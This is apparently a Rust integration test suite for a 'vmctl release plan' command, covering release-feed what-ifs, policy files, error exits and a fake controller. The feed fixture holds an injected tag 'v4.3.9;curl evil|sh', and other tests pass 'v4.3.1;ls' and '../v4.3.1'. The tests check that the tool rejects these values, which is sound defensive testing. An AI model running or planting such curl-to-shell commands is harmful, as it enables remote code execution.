//! The real `vmctl release plan` binary: what-ifs from a feed file with no controller running
//! (exact JSON, the table, a policy file, bad input), and the controller's decision through a
//! fake vmctld.

mod cli_support;

use std::path::Path;

use cli_support::{output, run, stderr, stdout, vmctl, FakeController, Reply};
use serde_json::{json, Value};
use vmctl_protocol::release::{ReleaseDecision, PLAN_PATH};

const FEED: &str = r####"[
  {"tag_name": "v4.4.0-rc.1", "name": "v4.4.0-rc.1", "body": "", "draft": false,
   "prerelease": true, "published_at": "2026-01-05T09:00:00Z"},
  {"tag_name": "v4.3.2", "name": "v4.3.2", "body": "### Security\n\n- Fix GHSA-3fjr-858r-92rw",
   "draft": false, "prerelease": false, "published_at": "2026-01-05T08:00:00Z"},
  {"tag_name": "v4.3.1", "name": "v4.3.1", "body": "### Fixed", "draft": false,
   "prerelease": false, "published_at": "2026-01-02T00:00:00Z"},
  {"tag_name": "v4.3.9;curl evil|sh", "name": "x", "body": "", "draft": false,
   "prerelease": false, "published_at": "2026-01-05T00:00:00Z"}
]"####;

fn write(dir: &Path, name: &str, text: &str) -> String {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

async fn plan(args: &[&str]) -> std::process::Output {
    let mut cmd = vmctl();
    // No controller anywhere: a what-if must not need one.
    cmd.arg("--socket")
        .arg("/nonexistent/vmctld.sock")
        .arg("release")
        .arg("plan")
        .args(args);
    output(cmd).await
}

#[tokio::test]
async fn a_what_if_prints_the_decision_as_exact_json() {
    let dir = tempfile::tempdir().unwrap();
    let feed = write(dir.path(), "feed.json", FEED);
    let out = plan(&[
        "--feed",
        &feed,
        "--current",
        "v4.3.1",
        "--now",
        "2026-01-05T12:00:00Z",
        "-o",
        "json",
    ])
    .await;
    assert!(out.status.success(), "{}", stderr(&out));
    let got: Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(
        got,
        json!({
            "current": "v4.3.1",
            "target": "v4.3.2",
            "security": true,
            "earliest_start": "2026-01-05T08:00:00Z",
            "deadline": "2026-01-05T20:00:00Z",
            "reason": "v4.3.2 is a security release published 2026-01-05T08:00:00Z; no soak, \
                       deadline in 12h (2026-01-05T20:00:00Z); ignored 1 feed entry whose tag \
                       is not a version: \"v4.3.9;curl evil|sh\"",
        })
    );
    let keys: Vec<&str> = got
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(keys.len(), 6);
}

#[tokio::test]
async fn a_what_if_with_a_policy_file_and_the_table_output() {
    let dir = tempfile::tempdir().unwrap();
    let feed = write(dir.path(), "feed.json", FEED);
    let policy = write(dir.path(), "policy.toml", "skip = [\"v4.3.2\"]\n");
    let out = plan(&[
        "--feed",
        &feed,
        "--current",
        "v4.3.0",
        "--now",
        "2026-01-05T12:00:00Z",
        "--policy",
        &policy,
    ])
    .await;
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2, "{text}");
    let header: Vec<&str> = lines[0].split("  ").filter(|c| !c.is_empty()).collect();
    assert_eq!(
        header,
        vec![
            "CURRENT",
            "TARGET",
            "SECURITY",
            "EARLIEST START",
            "DEADLINE",
            "REASON"
        ]
    );
    assert!(
        lines[1].starts_with("v4.3.0   v4.3.1  no        2026-01-02T06:00:00Z  2026-01-04T00:00:00Z  v4.3.1 was published"),
        "{text}"
    );
}

#[tokio::test]
async fn up_to_date_prints_nulls() {
    let dir = tempfile::tempdir().unwrap();
    let feed = write(dir.path(), "feed.json", FEED);
    let out = plan(&[
        "--feed",
        &feed,
        "--current",
        "v4.3.2",
        "--now",
        "2026-01-05T12:00:00Z",
        "-o",
        "json",
    ])
    .await;
    assert!(out.status.success(), "{}", stderr(&out));
    let got: Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(got["target"], Value::Null);
    assert_eq!(got["earliest_start"], Value::Null);
    assert_eq!(got["deadline"], Value::Null);
    assert_eq!(got["security"], false);
    assert!(
        got["reason"].as_str().unwrap().starts_with("up to date"),
        "{got}"
    );
}

#[tokio::test]
async fn a_garbage_feed_exits_1_naming_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let cases = [
        (
            "garbage.json",
            "<html>502 Bad Gateway</html>",
            ":1:1: feed: not a release feed",
        ),
        (
            "object.json",
            "{\"message\": \"Not Found\"}",
            ":1:1: feed: not a release feed",
        ),
        (
            "empty.json",
            "[]",
            ":1:1: feed: lists no published releases",
        ),
        (
            "shape.json",
            "[\n  {\"tag_name\": 4}\n]",
            ":2:16: feed: not a release feed",
        ),
    ];
    for (name, text, want) in cases {
        let feed = write(dir.path(), name, text);
        let out = plan(&["--feed", &feed, "--current", "v4.3.1", "-o", "json"]).await;
        assert_eq!(out.status.code(), Some(1), "{name}");
        assert!(stdout(&out).is_empty(), "{name}");
        let err = stderr(&out);
        assert!(
            err.starts_with(&format!("error: {feed}{want}")),
            "{name}: {err}"
        );
    }
    let missing = dir.path().join("missing.json").display().to_string();
    let out = plan(&["--feed", &missing, "--current", "v4.3.1"]).await;
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains(&format!("{missing}:1:1: file: cannot read the file")));
}

#[tokio::test]
async fn a_bad_policy_file_exits_1_naming_file_line_and_field() {
    let dir = tempfile::tempdir().unwrap();
    let feed = write(dir.path(), "feed.json", FEED);
    let policy = write(
        dir.path(),
        "policy.toml",
        "soak = \"6h\"\nhold = \"../v4\"\n",
    );
    let out = plan(&["--feed", &feed, "--current", "v4.3.1", "--policy", &policy]).await;
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.starts_with(&format!("error: {policy}:2:8: hold: ")),
        "{err}"
    );
}

#[tokio::test]
async fn bad_versions_and_times_are_usage_errors() {
    let dir = tempfile::tempdir().unwrap();
    let feed = write(dir.path(), "feed.json", FEED);
    for args in [
        vec!["--feed", &feed, "--current", "v4.3.1;ls"],
        vec!["--feed", &feed, "--current", "../v4.3.1"],
        vec!["--feed", &feed, "--current", "v4.3.1", "--now", "tomorrow"],
        vec!["--feed", &feed],
        vec!["--current", "v4.3.1"],
    ] {
        let out = plan(&args).await;
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
    }
}

#[tokio::test]
async fn without_a_feed_the_controllers_decision_is_shown() {
    let fake = FakeController::unix().await;
    let decision = ReleaseDecision {
        current: "v4.3.1".into(),
        target: Some("v4.3.2".into()),
        security: false,
        earliest_start: "2026-01-05T14:00:00Z".parse().ok(),
        deadline: "2026-01-07T08:00:00Z".parse().ok(),
        reason: "v4.3.2 was published 2026-01-05T08:00:00Z".into(),
    };
    fake.reply(&format!("GET {PLAN_PATH}"), Reply::json(&decision));
    let out = run(&fake.socket, &["release", "plan", "-o", "json"]).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let got: ReleaseDecision = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(got, decision);
    assert_eq!(fake.requests()[0].uri, PLAN_PATH);
}

#[tokio::test]
async fn a_controller_without_the_route_says_how_to_do_a_what_if() {
    let fake = FakeController::unix().await;
    let out = run(&fake.socket, &["release", "plan"]).await;
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.contains("does not serve GET /v1/release/plan"), "{err}");
    assert!(err.contains("--feed FILE --current vX.Y.Z"), "{err}");
}
